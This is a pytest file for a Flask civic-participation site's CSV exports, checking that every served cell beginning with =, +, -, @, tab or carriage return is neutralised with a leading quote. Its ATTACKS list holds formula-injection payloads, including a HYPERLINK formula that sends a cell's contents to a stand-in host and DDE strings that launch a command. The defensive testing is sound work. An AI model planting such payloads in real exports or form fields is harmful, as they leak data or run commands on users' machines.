"""Issue 15, formula injection: every CSV file the site writes shows a text cell that a
spreadsheet would run (``= + - @``, tab, carriage return first) as text, with a quote in
front. The attack: a suggestion titled ``=HYPERLINK("http://..."&A2, ...)`` went out
unchanged in the open-data CSV."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from flask import url_for

from extensions import db
from projects import exports, services
from tests.projects.factories import TODAY, YEAR, make_call, make_units

ROOT = Path(__file__).resolve().parents[2]

ATTACKS = [
    '=HYPERLINK("http://x.example/?leak="&A2,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def dangerous(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def cells_of(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def seed_hostile_data() -> None:
    """A suggestion and a candidate project whose every free-text field is an attack."""
    call = make_call()
    units = make_units()
    units[0].name = ATTACKS[5]
    for i, attack in enumerate(ATTACKS):
        services.submit_suggestion(
            call,
            today=TODAY,
            title=attack,
            description=ATTACKS[(i + 1) % len(ATTACKS)],
            category="transport",
            location=ATTACKS[(i + 2) % len(ATTACKS)],
            name="陈女士",
            phone="13912345678",
        )
        services.create_candidate(
            year=YEAR,
            title=attack,
            lead_unit=units[0],
            investment=100 + i,
            planned_completion=TODAY.replace(year=YEAR),
            description=ATTACKS[(i + 3) % len(ATTACKS)],
        )
    db.session.commit()


# Values for the arguments of CSV routes; a route with another argument must be added here.
ARGUMENTS = {"year": [YEAR], "kind": list(exports.KINDS), "fmt": ["csv"]}


def csv_urls(app) -> list[str]:
    """Every URL of a route that serves CSV (its rule names csv), with each argument's values."""
    urls = []
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or "csv" not in rule.rule:
            continue
        unknown = set(rule.arguments) - set(ARGUMENTS)
        assert not unknown, f"{rule.rule}: give ARGUMENTS values for {unknown} so that this CSV route is tested"
        combos = [{}]
        for name in rule.arguments:
            combos = [dict(c, **{name: v}) for c in combos for v in ARGUMENTS[name]]
        with app.test_request_context():
            urls.extend(url_for(rule.endpoint, **c) for c in combos)
    return sorted(set(urls))


def test_no_csv_cell_the_site_serves_can_run_as_a_formula(app, staff_client):
    seed_hostile_data()
    urls = csv_urls(app)
    assert len(urls) >= 4, urls
    attacked = 0
    for url in urls:
        response = staff_client.get(url)
        assert response.status_code == 200, url
        if response.mimetype != "text/csv":
            continue
        rows = cells_of(response.data)
        for row in rows:
            for cell in row:
                assert not dangerous(cell), (url, cell)
                attacked += cell.startswith("'") and cell[1:] in ATTACKS
    assert attacked >= 2 * len(ATTACKS)  # the titles of suggestions and candidates, quoted


def test_every_export_kind_neutralises_every_text_column():
    """Each export's every column holding an attack (results and progress too, which need
    a whole vote to fill over HTTP)."""
    for kind, fields in exports.KINDS.items():
        rows = [{name: ATTACKS[i % len(ATTACKS)] for i, name in enumerate(fields)}]
        rows.append({name: [ATTACKS[0], 2] for name in fields})  # lists are joined
        for row in cells_of(exports.to_csv(kind, rows).encode())[1:]:
            assert len(row) == len(fields)
            assert not [cell for cell in row if dangerous(cell)], kind


def test_numbers_stay_numbers_and_text_that_looks_like_one_is_quoted():
    """The decision: numbers the server computes are written as they are (-3 is a
    number, not a formula); any text starting with a dangerous character is quoted, even
    "-1" typed as a title."""
    from core.csvfile import safe_cell, write_csv

    assert safe_cell(-3) == "-3" and safe_cell(-2.5) == "-2.5" and safe_cell(0) == "0"
    assert safe_cell("-1") == "'-1" and safe_cell("+86 139") == "'+86 139"
    assert safe_cell(None) == "" and safe_cell(True) == "True"
    assert safe_cell("普通标题 = 1") == "普通标题 = 1"
    text = write_csv(["a", "b"], [{"a": "=1", "b": -1}])
    assert text.startswith("\ufeff") and text.endswith("'=1,-1\r\n")


def test_every_csv_writer_of_the_site_goes_through_core_csvfile():
    """A new export cannot forget the quoting: no module but core/csvfile.py makes a CSV
    writer."""
    pattern = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT))
        for folder in ("core", "voting", "projects", "assessments", "deliberation")
        for path in (ROOT / folder).rglob("*.py")
        if pattern.search(path.read_text(encoding="utf-8")) and path != ROOT / "core" / "csvfile.py"
    ]
    assert offenders == []
    assert pattern.search((ROOT / "core" / "csvfile.py").read_text(encoding="utf-8"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_safe_cell_quotes_each_attack(attack):
    from core.csvfile import safe_cell

    assert safe_cell(attack) == "'" + attack
